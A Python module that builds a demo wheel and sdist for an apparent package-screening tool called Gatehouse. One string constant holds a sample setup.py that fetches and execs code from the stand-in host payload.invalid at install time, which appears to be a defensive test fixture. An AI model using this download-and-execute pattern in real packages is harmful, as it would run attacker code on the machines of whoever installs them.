"""The packages of the demo: a wheel and an sdist of one small project, built from text."""

from __future__ import annotations

import base64
import hashlib
import io
import tarfile
import zipfile

NAME = "gatehouse-demo"
_STEM = "gatehouse_demo"
#: An inert look-alike of install-time "download and execute": the host cannot exist, and nothing runs it.
HOSTILE_SETUP = """\
import urllib.request

from setuptools import setup

exec(urllib.request.urlopen("http://payload.invalid/stage2").read())

setup()
"""
_MTIME = (2024, 1, 1, 0, 0, 0)


def metadata(version: str) -> str:
    """The core metadata of the project."""
    return (
        "Metadata-Version: 2.1\n"
        f"Name: {NAME}\n"
        f"Version: {version}\n"
        "Summary: A package that the Gatehouse demo built.\n"
        "Requires-Python: >=3.8\n"
    )


def module(version: str) -> str:
    """The project's one module."""
    return f'"""Says hello."""\n\n__version__ = "{version}"\n\n\ndef hello():\n    return "hello from {version}"\n'


def wheel(version: str, *, note: str = "") -> tuple[str, bytes]:
    """A wheel: its filename and its bytes. `note` makes other content under the same name."""
    info = f"{_STEM}-{version}.dist-info"
    files = {
        f"{_STEM}/__init__.py": module(version) + note,
        f"{info}/METADATA": metadata(version),
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(
        f"{path},sha256={_record_digest(text)},{len(text.encode())}\n" for path, text in files.items()
    )
    files[f"{info}/RECORD"] = f"{record}{info}/RECORD,,\n"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in files.items():
            member = zipfile.ZipInfo(path, date_time=_MTIME)
            member.compress_type = zipfile.ZIP_DEFLATED
            member.external_attr = 0o644 << 16
            archive.writestr(member, text)
    return f"{_STEM}-{version}-py3-none-any.whl", buffer.getvalue()


def sdist(version: str, *, setup: str | None = None) -> tuple[str, bytes]:
    """An sdist: its filename and its bytes. `setup` is the text of a setup.py, if it shall have one."""
    top = f"{_STEM}-{version}"
    files = {} if setup is None else {f"{top}/setup.py": setup}
    files |= {
        f"{top}/PKG-INFO": metadata(version),
        f"{top}/pyproject.toml": f'[project]\nname = "{NAME}"\nversion = "{version}"\n',
        f"{top}/src/{_STEM}/__init__.py": module(version),
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, text in files.items():
            member = tarfile.TarInfo(path)
            member.size = len(text.encode())
            member.mode = 0o644
            archive.addfile(member, io.BytesIO(text.encode()))
    return f"{top}.tar.gz", buffer.getvalue()


def _record_digest(text: str) -> str:
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
